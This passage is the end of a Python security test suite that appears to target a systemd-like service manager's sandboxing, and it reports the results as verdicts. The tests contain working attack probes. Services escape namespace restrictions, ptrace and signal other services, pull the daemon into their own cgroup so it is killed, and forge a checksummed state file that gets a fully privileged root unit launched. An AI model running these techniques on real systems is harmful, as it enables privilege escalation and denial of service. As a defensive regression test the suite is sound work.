libc.syscall.restype = ctypes.c_long
NEWUSER = 0x10000000
res = {}
pid = os.fork()
if pid == 0:
    os._exit(0 if libc.unshare(NEWUSER) == 0 else 1)
res['unshare'] = os.waitpid(pid, 0)[1] == 0
r = libc.syscall(56, NEWUSER | 17, 0, 0, 0, 0)          # clone(CLONE_NEWUSER | SIGCHLD)
if r == 0:
    os._exit(0)
res['clone'] = r > 0
if r > 0:
    os.waitpid(r, 0)
args = (ctypes.c_uint64 * 11)()
args[0] = NEWUSER
args[4] = 17
r = libc.syscall(435, ctypes.byref(args), 88)          # clone3
if r == 0:
    os._exit(0)
res['clone3'] = r > 0
res['clone3_errno'] = ctypes.get_errno()
if r > 0:
    os.waitpid(r, 0)
for t in (0, NEWUSER):
    fd = os.open('/proc/%s/ns/user' % sys.argv[1], os.O_RDONLY)
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.setns(fd, t) == 0 else 1)
    res['setns_%x' % t] = os.waitpid(pid, 0)[1] == 0
    os.close(fd)
print('probe:', ' '.join('%s=%s' % kv for kv in sorted(res.items())), flush=True)
"""


def guard_forms(ctx):
    """unit_guard_user_namespaces(): the added RestrictNamespaces=~user against the unit's own
    forms of the directive (an allow-list naming user, "no", an empty reset, "~"), through
    unshare, clone, clone3 and setns (into a user namespace an outside process made, with
    CAP_SYS_ADMIN kept so that setns could succeed); again after daemon-reload twice, after
    daemon-reexec, and after a restart of the unit under the new daemon."""
    path = script(ctx, 'probe.py', GUARD_PROBE_PY)
    outside = st.subprocess.Popen(['unshare', '-U', 'sleep', '1000'])
    time.sleep(0)
    end = time.monotonic() + 5
    while time.monotonic() < end and os.readlink('/proc/%d/ns/user' % outside.pid) == os.readlink('/proc/self/ns/user'):
        time.sleep(0.02)
    forms = {'plain': '', 'allowuser': 'RestrictNamespaces=user\n', 'no': 'RestrictNamespaces=no\n',
             'empty': 'RestrictNamespaces=\n', 'tilde': 'RestrictNamespaces=~\n'}
    units = {}
    for k, v in forms.items():
        units['g-%s.service' % k] = unit(GATED + 'CapabilityBoundingSet=CAP_SETUID CAP_SYS_ADMIN\n' + v +
                                         'ExecStart=/usr/bin/python3 %s %d' % (path, outside.pid))
    units['ctl.service'] = unit('CapabilityBoundingSet=CAP_SETUID CAP_SYS_ADMIN\n'
                                'ExecStart=/usr/bin/python3 %s %d' % (path, outside.pid))
    d = ctx.daemon(units, [])
    d.wait('ctl.service', lambda s: True, 'the daemon', timeout=15)
    bad = []

    def round_(label):
        for name in units:
            n0 = d.unit_log(name).count('probe:')
            st.ctl(ctx, d, 'restart', name)
            end = time.monotonic() + 10
            while time.monotonic() < end and d.unit_log(name).count('probe:') == n0:
                time.sleep(0.05)
            line = [l for l in d.unit_log(name).split('\n') if 'probe:' in l]
            line = line[-1].split('probe: ')[1] if line else 'no output'
            if os.environ.get('ATTACK_VERBOSE'):
                print(label, name, line)
            if name == 'ctl.service':
                if 'unshare=True' not in line:
                    bad.append('%s: control unit could not unshare (%s)' % (label, line))
            elif 'True' in line:
                bad.append('%s %s: %s' % (label, name, line))
    round_('load')
    # A drop-in resetting the directive, picked up by the reloads.
    dd = os.path.join(d.units_dir, d.prefix + 'g-plain.service.d')
    os.makedirs(dd)
    with open(os.path.join(dd, 'zz-reset.conf'), 'w') as f:
        f.write('[Service]\nRestrictNamespaces=\nRestrictNamespaces=no\n')
    st.ctl(ctx, d, 'daemon-reload')
    st.ctl(ctx, d, 'daemon-reload')
    round_('reload')
    cat = st.ctl(ctx, d, 'cat', 'g-plain.service').stdout
    if cat.count('guard uid') > 1 or cat.count('~user') > 1:
        bad.append('guard line shown %d times after two reloads' % cat.count('~user'))
    st.ctl(ctx, d, 'daemon-reexec')
    d.daemon_pid()
    time.sleep(0)
    end = time.monotonic() + 10
    while time.monotonic() < end and st.ctl(ctx, d, 'status', 'ctl.service').returncode not in (0, 3):
        time.sleep(0.1)
    round_('reexec')
    cat2 = st.ctl(ctx, d, 'cat', 'g-plain.service').stdout
    if os.environ.get('ATTACK_VERBOSE'):
        print(cat2)
    outside.kill()
    outside.wait()
    verdict('guard: RestrictNamespaces=~user against the unit\'s own forms, clone/clone3/setns, reload, reexec',
            not bad, '; '.join(bad))
    d.stop()


# ---------------------------------------------------------------------------------------
IDENTITY_PROBE_PY = r"""
import os, signal
daemon = os.getppid()
with open('/proc/%d/stat' % daemon) as f:
    holder = int(f.read().rsplit(')', 1)[1].split()[1])
res = []
for t in (daemon, holder):
    try:
        os.kill(t, 0)
        res.append('kill(%d,0)=ok' % t)
    except OSError as e:
        res.append('kill(%d,0)=%s' % (t, e.strerror))
print('identity:', os.getresuid(), ' '.join(res), flush=True)
import time
time.sleep(1000)
"""


def identity_forms(ctx):
    """The launch child starts with the daemon's credentials (real and saved uid 4294967293):
    every service must leave them. Root services with and without PrivateUsers=, gated or not,
    with User=root spelled out, with DynamicUser=: the host's view of the main process's uids
    (/proc/PID/status) must not contain the guard uid, and kill(daemon, 0) must fail."""
    path = script(ctx, 'ident.py', IDENTITY_PROBE_PY)
    forms = {'root': 'CapabilityBoundingSet=\n', 'root-pu': 'CapabilityBoundingSet=\nPrivateUsers=yes\n',
             'root-pu-gated': GATED + 'CapabilityBoundingSet=\nPrivateUsers=yes\n',
             'root-pu-full': 'PrivateUsers=yes\n', 'user-root': 'User=root\nCapabilityBoundingSet=\n',
             'nobody-pu': 'User=nobody\nPrivateUsers=yes\n', 'dyn': 'DynamicUser=yes\n'}
    units = {'i-%s.service' % k: unit(v + 'ExecStart=/usr/bin/python3 %s' % path) for k, v in forms.items()}
    d = ctx.daemon(units, list(units))
    bad = []
    import re
    for name in units:
        end = time.monotonic() + 10
        while time.monotonic() < end and 'identity:' not in d.unit_log(name):
            time.sleep(0.05)
        log = d.unit_log(name)
        pids = re.findall(re.escape(name) + r': Spawned /usr/bin/python3 as pid (\d+)', d.daemon_log())
        host = 'unknown'
        if pids:
            with open('/proc/%s/status' % pids[-1]) as f:
                host = [l.split(':', 1)[1].split() for l in f if l.startswith('Uid')][0]
        line = [l.split('identity: ')[1] for l in log.split('\n') if 'identity:' in l]
        if os.environ.get('ATTACK_VERBOSE'):
            print(name, host, line)
        if '4294967293' in host or not line or '=ok' in line[0]:
            bad.append('%s: host uids %s, %s' % (name, host, line[0] if line else log[-300:]))
    verdict('identity: no service keeps the guard uid (root, PrivateUsers=, User=root, DynamicUser=)',
            not bad, '; '.join(bad))
    d.stop()



def guard_transient(ctx):
    """`syscagectl run` (unit_load_transient): a gated transient unit with CAP_SETUID and
    -p RestrictNamespaces= (empty) still gets the guard; the same without the gate may unshare
    (control). Observed: held."""
    path = script(ctx, 'unshare.py', 'import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n'
                  'print("unshare", libc.unshare(0x10000000), ctypes.get_errno(), flush=True)\n')
    d = ctx.daemon({'other.service': unit('ExecStart=/bin/sleep 1000')}, [])
    d.wait('other.service', lambda s: True, 'the daemon', timeout=15)
    gated = st.ctl(ctx, d, 'run', '--wait', '--pipe', '-p', 'NoNewPrivileges=yes', '-p', 'SystemCallFilter=~execve execveat',
                   '-p', 'SystemCallErrorNumber=EPERM', '-p', 'CapabilityBoundingSet=CAP_SETUID',
                   '-p', 'RestrictNamespaces=', '/usr/bin/python3', path).stdout
    plain = st.ctl(ctx, d, 'run', '--wait', '--pipe', '-p', 'CapabilityBoundingSet=CAP_SETUID',
                   '/usr/bin/python3', path).stdout
    # Gated through execveat alone, and through an allow-list that leaves execve out.
    only_at = st.ctl(ctx, d, 'run', '--wait', '--pipe', '-p', 'SystemCallFilter=~execveat',
                     '-p', 'CapabilityBoundingSet=CAP_SETUID', '/usr/bin/python3', path).stdout
    allow = st.ctl(ctx, d, 'run', '--wait', '--pipe', '-p', 'SystemCallFilter=@system-service',
                   '-p', 'SystemCallFilter=~execve', '-p', 'CapabilityBoundingSet=CAP_SETUID',
                   '/usr/bin/python3', path).stdout
    verdict('guard: transient gated unit with CAP_SETUID (~execve execveat with RestrictNamespaces=, ~execveat only, '
            '@system-service minus execve) cannot unshare a user namespace',
            'unshare -1 1' in gated and 'unshare 0 0' in plain and 'unshare -1 1' in only_at and 'unshare -1 1' in allow,
            'gated: %r, ~execveat: %r, allow-list: %r, ungated: %r' % (gated, only_at, allow, plain))
    d.stop()


# ---------------------------------------------------------------------------------------
NS_OWNER_PY = r"""
# A capless root service against the main processes of other units (pids in argv): kill(0),
# SIGSTOP, prlimit(RLIMIT_NOFILE lowered), PTRACE_SEIZE.
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
class rlimit(ctypes.Structure):
    _fields_ = [('cur', ctypes.c_ulong), ('max', ctypes.c_ulong)]
for arg in sys.argv[1:]:
    name, pid = arg.split('=')
    pid = int(pid)
    out = []
    try:
        os.kill(pid, signal.SIGSTOP)
        out.append('SIGSTOP=ok')
        os.kill(pid, signal.SIGCONT)
    except OSError as e:
        out.append('SIGSTOP=' + e.strerror)
    new = rlimit(16, 16)
    r = libc.prlimit(pid, 7, ctypes.byref(new), None)
    out.append('prlimit=' + ('ok' if r == 0 else os.strerror(ctypes.get_errno())))
    r = libc.ptrace(0x4206, pid, None, None)   # PTRACE_SEIZE
    out.append('ptrace=' + ('ok' if r == 0 else os.strerror(ctypes.get_errno())))
    print('owner: %s %s' % (name, ' '.join(out)), flush=True)
"""


def userns_owner(ctx):
    """PrivateUsers=: the launch child unshares the user namespace as euid 0, so root owns
    every service's private namespace, and the owner has every capability in it. A capless
    root service (CapabilityBoundingSet= empty, gated) against a User=nobody service: without
    PrivateUsers= it may do nothing (control); with it, kill, prlimit, ptrace?"""
    path = script(ctx, 'owner.py', NS_OWNER_PY)
    units = {'v-plain.service': unit('User=nobody\nExecStart=/bin/sleep 1000'),
             'v-pu.service': unit('User=nobody\nPrivateUsers=yes\nExecStart=/bin/sleep 1000')}
    d = ctx.daemon(units, list(units))
    import re
    pids = {}
    for name in units:
        d.wait_state(name, 'active', 'running')
        pids[name] = int(re.findall(re.escape(d._n(name)) + r': Spawned /bin/sleep as pid (\d+)', d.daemon_log())[-1])
    d.stop()
    units['attacker.service'] = unit(GATED + 'CapabilityBoundingSet=\nExecStart=/usr/bin/python3 %s @ARGS@' % path)
    d = ctx.daemon(units, list(units)[:2])
    for name in list(units)[:2]:
        d.wait_state(name, 'active', 'running')
    args = ' '.join('%s=%s' % (n, re.findall(re.escape(d._n(n)) + r': Spawned /bin/sleep as pid (\d+)', d.daemon_log())[-1])
                    for n in list(units)[:2])
    f = os.path.join(d.units_dir, d._n('attacker.service'))
    text = open(f).read().replace('@ARGS@', args)
    open(f, 'w').write(text)
    st.ctl(ctx, d, 'daemon-reload')
    st.ctl(ctx, d, 'start', 'attacker.service')
    end = time.monotonic() + 10
    while time.monotonic() < end and d.unit_log('attacker.service').count('owner:') < 2:
        time.sleep(0.05)
    lines = [l.split('owner: ')[1] for l in d.unit_log('attacker.service').split('\n') if 'owner:' in l]
    if os.environ.get('ATTACK_VERBOSE'):
        print(lines)
    pu = [l for l in lines if l.startswith('v-pu')]
    plain = [l for l in lines if l.startswith('v-plain')]
    verdict('PrivateUsers=: a capless root service signals, prlimits or ptraces a User=nobody service in its private namespace',
            pu and '=ok' not in pu[0], 'with PrivateUsers=: %s; without (control): %s' % (pu, plain))
    d.stop()


# ---------------------------------------------------------------------------------------
STATE_FORGE_PY = r"""
# An ungated root service without capabilities (ProtectSupervisor= is on by default only with
# the gate) writes a state file for a transient unit that never existed: its assignments come
# from the state file, and "auto-restart" with a past timer makes the next daemon start it.
# The checksum is FNV-1a over the text before "end ", no key; nothing checks the owner.
import os, sys
runtime, proof = sys.argv[1], sys.argv[2]
def esc(v):
    return ''.join('\\x%02x' % ord(c) if ord(c) < 0x20 or ord(c) == 0x7f else c for c in v)
cmd = '/bin/sh -c "grep -E CapEff /proc/self/status > %s/pwned; grep -E ^Uid /proc/self/status >> %s/pwned"' % (proof, proof)
entries = [('unit', 'pwned.service'), ('state', 'auto-restart'), ('result', 'exit-code'),
           ('reload_result', 'success'), ('invocation', '0123456789abcdef0123456789abcdef'),
           ('n_restarts', '0'), ('start_limit_begin', '0'), ('start_limit_count', '0'), ('last_start', '0'),
           ('start_seq', '1'), ('forbid_restart', 'no'), ('restart_requested', 'no'), ('notify_ready', 'no'),
           ('notify_stopping', 'no'), ('reload_pending_ready', 'no'), ('main_execed', 'no'),
           ('ts_state_change', '0'), ('ts_active_enter', '0'), ('ts_active_exit', '0'), ('ts_inactive_enter', '0'),
           ('ts_main_start', '0'), ('ts_main_exit', '0'), ('main_pid', '0'), ('main_pid_known', 'no'),
           ('main_code', '1'), ('main_status', '1'), ('control_command', '0'), ('command_index', '0'),
           ('timer', '1'), ('watchdog', 'no'),
           ('transient', esc('Service\tRestart\t1\t-p\tno')),
           ('transient', esc('Service\tExecStart\t1\t(command line)\t' + cmd))]
text = 'syscage-state 1\n' + ''.join('%s=%s\n' % kv for kv in entries)
h = 0xcbf29ce484222325
for b in text.encode():
    h = ((h ^ b) * 0x100000001b3) & 0xffffffffffffffff
text += 'end %016x\n' % h
try:
    with open(os.path.join(runtime, 'state', '.pwned.tmp'), 'w') as f:
        f.write(text)
    os.rename(os.path.join(runtime, 'state', '.pwned.tmp'), os.path.join(runtime, 'state', 'pwned.service.state'))
    print('forger: state file written', flush=True)
except OSError as e:
    print('forger: failed', e, flush=True)
with open('/proc/self/status') as f:
    print('forger:', ' '.join(l.strip() for l in f if l.startswith('CapEff')), flush=True)
"""


def state_forge(ctx):
    """A capless, ungated root service forges RUNTIME_DIR/state/pwned.service.state: a transient
    unit with its own ExecStart= in "auto-restart". At the next daemon-reexec (an operator's,
    after an upgrade) or crash, the daemon takes the transient unit "over" and starts it: a
    root process with every capability, from a service that had none."""
    path = script(ctx, 'forge.py', STATE_FORGE_PY)
    proof = os.path.dirname(path)
    units = {'forger.service': unit('CapabilityBoundingSet=\nType=oneshot\nExecStart=/usr/bin/python3 %s @RUNTIME@ %s' % (path, proof))}
    d = ctx.daemon(units, [])
    d.wait('forger.service', lambda s: True, 'the daemon', timeout=15)
    f = os.path.join(d.units_dir, d._n('forger.service'))
    text = open(f).read().replace('@RUNTIME@', d.runtime_dir)
    open(f, 'w').write(text)
    st.ctl(ctx, d, 'daemon-reload')
    st.ctl(ctx, d, 'start', 'forger.service')
    end = time.monotonic() + 10
    while time.monotonic() < end and 'forger: CapEff' not in d.unit_log('forger.service'):
        time.sleep(0.05)
    verbose(d, 'forger.service')
    st.ctl(ctx, d, 'daemon-reexec')
    end = time.monotonic() + 10
    pwned = os.path.join(proof, 'pwned')
    while time.monotonic() < end and not (os.path.exists(pwned) and 'Uid' in open(pwned).read()):
        time.sleep(0.1)
    got = open(pwned).read().split('\n') if os.path.exists(pwned) else []
    verbose(d, 'pwned.service')
    verdict('state files: a capless ungated root service forges a transient unit that the next daemon starts',
            not got, 'the forged unit ran after daemon-reexec: %s; forger: %s' % (
                ' | '.join(l.strip() for l in got if l.strip()),
                ' | '.join(l.split(': ', 1)[-1] for l in d.unit_log('forger.service').split('\n') if 'forger:' in l)))
    d.stop()


# ---------------------------------------------------------------------------------------
CGROUP_PULL_PY = r"""
# Pulls the daemon, the holder and an outside process (argv[1]) into this unit's own cgroup
# (cgroup v2 asks for write access to the destination's and the common ancestor's
# cgroup.procs, root-owned files; it does not compare the mover's and the target's
# credentials), then exits: the unit's stop kills its cgroup.
import os, sys
daemon = os.getppid()
with open('/proc/%d/stat' % daemon) as f:
    holder = int(f.read().rsplit(')', 1)[1].split()[1])
with open('/proc/self/cgroup') as f:
    own = [l for l in f.read().split('\n') if l.startswith('0::')][0][3:]
root = None
for l in open('/proc/self/mountinfo'):
    p = l.split()
    if p[p.index('-') + 1] == 'cgroup2':
        root = p[4]
for t in (int(sys.argv[1]), holder, daemon):
    try:
        with open(root + own + '/cgroup.procs', 'w') as f:
            f.write('%d\n' % t)
        print('puller: moved %d' % t, flush=True)
    except OSError as e:
        print('puller: move of %d failed: %s' % (t, e), flush=True)
"""


def cgroup_pull(ctx, gated=False):
    """A root service without capabilities writes other processes' pids into its own cgroup's
    cgroup.procs: the holder, the daemon, and a process outside any unit; then its main
    process exits, and the unit's stop kills what is in the cgroup."""
    path = script(ctx, 'pull.py', CGROUP_PULL_PY)
    outside = st.subprocess.Popen(['sleep', '1000'])
    units = {'puller.service': unit('CapabilityBoundingSet=\nTimeoutStopSec=1\n' + (GATED if gated else '') +
                                    'ExecStart=/usr/bin/python3 %s %d' % (path, outside.pid)),
             'other.service': unit('ExecStart=/bin/sleep 1000')}
    d = ctx.daemon(units, ['other.service'])
    d.wait_state('other.service', 'active', 'running')
    daemon = d.daemon_pid()
    holder = d.proc.pid
    st.ctl(ctx, d, 'start', 'puller.service')
    end = time.monotonic() + 6
    while time.monotonic() < end and proc_state(holder) not in ('gone', 'Z'):
        time.sleep(0.05)
    res = 'outside %s, daemon %s, holder %s' % ('killed' if outside.poll() is not None else 'alive',
                                                proc_state(daemon), proc_state(holder))
    log = d.unit_log('puller.service')
    try:
        outside.kill()
    except OSError:
        pass
    outside.wait()
    if os.environ.get('ATTACK_VERBOSE'):
        print(res, log, d.daemon_log()[-2000:])
    verdict('cgroups: a capless root service%s pulls the holder, the daemon and an outside process into its cgroup' %
            (' (gated)' if gated else ''), 'puller: moved' not in log,
            '%s; %s' % (res, ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if 'puller' in l)))
    try:
        d.stop()
    except Exception:
        pass


def cgroup_pull_gated(ctx):
    cgroup_pull(ctx, True)


ATTACKS = [cgroup_pull, cgroup_pull_gated, state_forge, userns_owner, guard_transient, identity_forms, guard_forms, userns_foreign_map_nobody, cgroup_move_notify, cgroup_move_notify_protected, cgroup_move_notify_gated, userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]


def main():
    if os.geteuid() != 0:
        print('skipped: needs root')
        return 77
    only = sys.argv[4:]
    for fn in ATTACKS:
        if only and fn.__name__ not in only:
            continue
        ctx = st.Context(sys.argv[1], sys.argv[2], sys.argv[3], fn.__name__)
        try:
            fn(ctx)
        except st.Failure as e:
            print('ERROR  %s: %s' % (fn.__name__, e))
        finally:
            ctx.cleanup(False)
            for d in getattr(ctx, 'cleanup_dirs', []):
                shutil.rmtree(d, ignore_errors=True)
    return 1 if broken else 0


if __name__ == '__main__':
    sys.exit(main())
